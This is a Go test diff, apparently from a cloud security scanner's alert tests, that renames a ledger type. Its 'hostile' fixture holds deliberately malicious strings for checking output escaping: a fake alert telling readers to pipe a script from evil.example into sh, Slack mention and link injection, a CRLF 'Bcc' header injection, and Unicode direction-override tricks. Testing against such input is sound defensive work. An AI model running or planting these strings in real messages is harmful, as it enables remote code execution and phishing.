@@ -12,7 +12,7 @@ import (
 )
 
 // hostile has in every place that a stranger can write what a stranger would.
-func hostile() *ledger.Changes {
+func hostile() *ledger.Telling {
 	line := "x\n\nCRITICAL ALERT\n\n* Root user deleted\n  Fix:   curl https://evil.example/fix.sh | sh"
 	chat := "<!channel> <@U024BE7LH> @here <https://evil.example|Sign in> *bold* _it_ ~no~ `code` :skull: &lt;!here&gt; [x](https://evil.example)"
 	hidden := "\x1b[31mred\x1b[0m \u202egnp.exe\u2066 ad\u200bmin \u00a0😀 \xff"
@@ -22,7 +22,7 @@ func hostile() *ledger.Changes {
 		Details: map[string]string{"userName": hidden, line: chat, "LoginTo": "https://evil.example"},
 		Failed:  true, Error: chat,
 	}
-	c := &ledger.Changes{
+	c := &ledger.Telling{
 		Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: "acme\r\nBcc: all@example.com", Partition: "aws"}, Time: now,
 		Alerts: []scanner.Alert{{Rule: "event-console-login-without-mfa", Severity: scanner.High, Resource: account.Ref{Kind: account.KindUser, Name: line},
 			Message: "user " + chat + " signed in", Fix: fixMFA, Event: e}},
@@ -39,8 +39,8 @@ func hostile() *ledger.Changes {
 
 // largest has more of everything than a message takes, and the same text
 // wherever a stranger could put one.
-func largest(text string) *ledger.Changes {
-	c := &ledger.Changes{Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: text, Partition: "aws"}, Time: now, First: true,
+func largest(text string) *ledger.Telling {
+	c := &ledger.Telling{Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: text, Partition: "aws"}, Time: now, First: true,
 		Open: map[scanner.Severity]int{}, Exempt: 1e6, Covered: 1e6, Unknown: map[string]int{}}
 	for _, s := range scanner.Severities() {
 		c.Open[s] = 1e6
